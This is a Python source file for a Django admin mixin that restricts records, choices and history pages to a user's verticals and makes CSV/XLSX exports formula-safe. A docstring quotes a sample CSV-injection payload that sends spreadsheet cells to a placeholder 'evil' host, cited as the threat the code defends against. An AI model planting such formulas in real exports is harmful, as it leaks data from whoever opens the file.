"""Admin mixin that scopes every changelist, change page and choice list to the user's verticals."""

from __future__ import annotations

from django.contrib.admin.utils import unquote
from django.core.exceptions import FieldDoesNotExist, ValidationError
from django.db import models
from django.http import Http404
from django.utils.text import capfirst
from import_export.admin import ImportExportMixin
from import_export.formats import base_formats
from import_export.forms import SelectableFieldsExportForm
from tablib import Dataset

from core.limits import FREE_TEXT_MAX_LENGTH

from .selectors import people_visible_to, scope_by_vertical, verticals_visible_to

USER_LABEL = "auth.user"

# Choice lists of models from apps above this one, scoped by those apps' own selectors:
# "app_label.model" -> function(user) -> queryset. Each app registers its models from its
# AppConfig.ready() (accounts: accounts.account, accounts.contact), so verticals imports none.
CHOICE_SCOPES: dict = {}


def register_choice_scope(label: str, visible_to) -> None:
    """Scope every admin choice list of the model `label` with `visible_to(user)`."""
    CHOICE_SCOPES[label] = visible_to


def person_name(user) -> str:
    """How the site names a person: the full name, the username only when there is none."""
    return user.get_full_name() or user.username


def _named_people(formfield):
    # The chosen person in an autocomplete or a plain select shows their name, as the pages do.
    if formfield is not None:
        formfield.label_from_instance = person_name
    return formfield


class VerticalScopedAdmin:
    """Scope a ModelAdmin (or inline) by the lookup path `vertical_field` to the user's verticals.

    Objects outside the user's verticals are invisible: not listed, not offered
    as choices, and a forged change URL answers 404 instead of redirecting.
    """

    vertical_field: str = "account__vertical_id"

    def get_queryset(self, request):
        return scope_by_vertical(
            super().get_queryset(request), request.user, vertical_field=self.vertical_field
        )

    def formfield_for_dbfield(self, db_field, request, **kwargs):
        if isinstance(db_field, models.TextField) and db_field.max_length is None:
            # Free text has no column limit; the form says the limit (core.limits).
            kwargs.setdefault("max_length", FREE_TEXT_MAX_LENGTH)
        return super().formfield_for_dbfield(db_field, request, **kwargs)

    def formfield_for_foreignkey(self, db_field, request, **kwargs):
        model = db_field.related_model
        label = model._meta.label_lower
        if label in CHOICE_SCOPES:
            kwargs["queryset"] = CHOICE_SCOPES[label](request.user)
        elif label == "verticals.vertical":
            kwargs["queryset"] = verticals_visible_to(request.user)
        elif label == USER_LABEL:
            kwargs["queryset"] = people_visible_to(request.user)
            return _named_people(super().formfield_for_foreignkey(db_field, request, **kwargs))
        return super().formfield_for_foreignkey(db_field, request, **kwargs)

    def formfield_for_manytomany(self, db_field, request, **kwargs):
        label = db_field.related_model._meta.label_lower
        if label in CHOICE_SCOPES:
            kwargs["queryset"] = CHOICE_SCOPES[label](request.user)
        elif label == USER_LABEL:
            kwargs["queryset"] = people_visible_to(request.user)
            return _named_people(super().formfield_for_manytomany(db_field, request, **kwargs))
        return super().formfield_for_manytomany(db_field, request, **kwargs)

    def get_object(self, request, object_id, from_field=None):
        obj = super().get_object(request, object_id, from_field)
        if obj is None and object_id is not None and hasattr(self, "model"):
            # A forged URL to another vertical's object (or a missing one): 404, not a redirect.
            raise Http404
        return obj

    # --- django-simple-history's pages -------------------------------------------------
    # Its history views fall back to the historical rows when get_queryset() misses, which
    # would show another vertical's history; answer 404 unless the object is in scope (or,
    # once deleted, its last recorded state was).

    def _history_in_scope(self, request, object_id) -> bool:
        pk_name = self.model._meta.pk.attname
        try:
            self.model._meta.pk.to_python(object_id)
        except ValidationError:
            return False
        if self.get_queryset(request).filter(**{pk_name: object_id}).exists():
            return True
        if self.model._default_manager.filter(**{pk_name: object_id}).exists():
            return False
        history = self.model.history.filter(**{pk_name: object_id}).order_by("-history_id")
        latest = history.values_list("history_id", flat=True)[:1]
        return scope_by_vertical(
            self.model.history.filter(history_id__in=list(latest)),
            request.user,
            vertical_field=self.vertical_field,
        ).exists()

    def history_view(self, request, object_id, extra_context=None):
        if not self._history_in_scope(request, unquote(object_id)):
            raise Http404
        return super().history_view(request, object_id, extra_context=extra_context)

    def history_form_view(self, request, object_id, version_id, extra_context=None):
        if not self._history_in_scope(request, unquote(object_id)):
            raise Http404
        return super().history_form_view(request, object_id, version_id, extra_context)


# A cell starting with one of these is run as a formula by Excel, LibreOffice and Sheets.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """A text cell a spreadsheet would run as a formula, prefixed with ' so it shows as text.

    OWASP's CSV-injection advice: a title like `=HYPERLINK("https://evil/?"&B2)`
    would otherwise leak the sheet's cells when the exported file is opened.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def formula_safe(dataset: Dataset) -> Dataset:
    return Dataset(
        *[tuple(neutralise_formula(cell) for cell in row) for row in dataset],
        headers=dataset.headers,
        title=dataset.title,
    )


class FormulaSafeCSV(base_formats.CSV):
    def export_data(self, dataset, **kwargs):
        return super().export_data(formula_safe(dataset), **kwargs)


class FormulaSafeXLSX(base_formats.XLSX):
    def export_data(self, dataset, **kwargs):
        return super().export_data(formula_safe(dataset), **kwargs)


class NamedFieldsExportForm(SelectableFieldsExportForm):
    """The export's field checkboxes by the model field's (translated) name and the file's column.

    django-import-export titles the column name ("External Id") in English whatever the language.
    """

    def _get_field_label(self, resource, field_name: str) -> str:
        field = resource.fields.get(field_name)
        column = field.column_name if field else field_name
        attribute = (field.attribute if field else None) or field_name
        try:
            model_field = resource._meta.model._meta.get_field(attribute.split("__")[0])
        except FieldDoesNotExist:
            return super()._get_field_label(resource, field_name)
        return f"{capfirst(model_field.verbose_name)} ({column})"


class RoleImportExportMixin(ImportExportMixin):
    """django-import-export in the admin, allowed by the role's model permissions.

    Importing creates and updates rows, so it needs both add and change;
    exporting needs view. What is exported is the scoped changelist.
    Large customers' old systems hand over CSV or Excel files. Every export
    goes through the formula-safe formats (see neutralise_formula).
    """

    formats = [FormulaSafeCSV, FormulaSafeXLSX]
    export_form_class = NamedFieldsExportForm
    import_formats = formats
    export_formats = formats

    def has_import_permission(self, request):
        return self.has_add_permission(request) and self.has_change_permission(request)

    def has_export_permission(self, request):
        return self.has_view_permission(request)
